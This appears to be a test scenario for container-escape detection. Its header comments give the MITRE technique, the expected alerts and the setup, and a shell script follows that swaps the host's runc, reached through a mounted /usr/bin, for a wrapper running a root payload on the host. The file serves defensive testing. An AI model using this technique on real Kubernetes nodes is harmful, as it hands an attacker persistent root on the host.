# category: container-escape
# technique: T1611
# art: no
# developed: yes
# expect: host-mount-sensitive-write binary-in-path-modified
# opts: --bind ../../hostbin:/host/usr/bin
# layer: mkdir -p ../../hostbin && cp -p "$BASE/bin/busybox" ../../hostbin/runc && cp -p "$BASE/bin/busybox" ../../hostbin/containerd-shim-runc-v2
# desc: a pod with the node's /usr/bin mounted (hostPath; here a scratch directory) replaces the host's runc with a wrapper that runs a payload as root on the host and then the real runc, so the next container operation on the node runs it
# note: ../../ is the scenario's scratch directory on the host ($EXR_STATE of tests/lib/container.sh): layer commands run in $EXR_STATE/ov/layer, and runc resolves a relative bind source against the bundle, $EXR_STATE/bundles/NAME
ls -l /host/usr/bin
mv /host/usr/bin/runc /host/usr/bin/.runc
cat >/host/usr/bin/runc <<'SH'
#!/bin/sh
(id; hostname) >/tmp/.runc-hook 2>&1 &
exec /usr/bin/.runc "$@"
SH
chmod 755 /host/usr/bin/runc
ls -l /host/usr/bin
